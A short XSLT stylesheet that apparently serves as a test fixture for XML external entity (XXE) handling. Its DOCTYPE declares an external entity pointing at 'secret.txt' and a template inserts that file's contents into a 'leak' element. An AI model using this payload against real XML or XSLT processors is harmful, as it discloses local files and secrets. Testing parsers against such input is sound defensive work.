<?xml version="1.0"?>
<!DOCTYPE xsl:stylesheet [<!ENTITY s SYSTEM "secret.txt">]>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template name="part"><leak>&s;</leak></xsl:template>
</xsl:stylesheet>
